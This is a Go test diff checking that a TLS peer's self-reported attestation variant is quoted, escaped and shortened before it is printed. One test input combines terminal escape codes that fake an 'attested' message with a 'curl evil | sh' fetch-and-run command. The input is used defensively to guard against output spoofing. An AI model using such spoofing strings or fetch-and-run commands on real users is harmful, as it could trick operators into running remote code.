@@ -263,3 +263,34 @@ func TestVerdictWithoutClaims(t *testing.T) {
 		t.Errorf("refusal: Dial error = %v, want ErrRateLimited without the server's text", err)
 	}
 }
+
+// TestPeerVariantIsQuoted: the variant a peer names reaches Evidence (which berth verify and berth
+// init print) as it is only when it looks like a variant; anything else quoted, escaped and short.
+func TestPeerVariantIsQuoted(t *testing.T) {
+	ctx := context.Background()
+	for sent, want := range map[string]string{
+		atlstest.Variant: atlstest.Variant,
+		"\x1b[2J\x1b[HNode attested (tpm)\r\nrun: curl evil | sh": `"?[2J?[HNode attested (tpm)??run: curl evil | sh"`,
+		strings.Repeat("a", 33):                                   `"` + strings.Repeat("a", 33) + `"`,
+		strings.Repeat("b", 80):                                   `"` + strings.Repeat("b", 64) + `"`,
+		"":                                                        `""`,
+	} {
+		srv, err := atls.NewServerConfig(rawIssuer{variant: sent, doc: []byte("{}")}, nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		addr := listenTLS(t, srv)
+		var seen *atls.Evidence
+		cfg, err := atls.NewClientConfig(ctx, nil, atlstest.Validator{}, atls.WithObserver(func(ev atls.Evidence, _ error) { seen = &ev }))
+		if err != nil {
+			t.Fatal(err)
+		}
+		_ = handshake(t, addr, cfg) // only what the observer saw matters here
+		if seen == nil {
+			t.Fatalf("a peer naming variant %q: no evidence observed", sent)
+		}
+		if seen.Variant != want {
+			t.Errorf("a peer naming variant %q: Evidence.Variant = %q, want %q", sent, seen.Variant, want)
+		}
+	}
+}
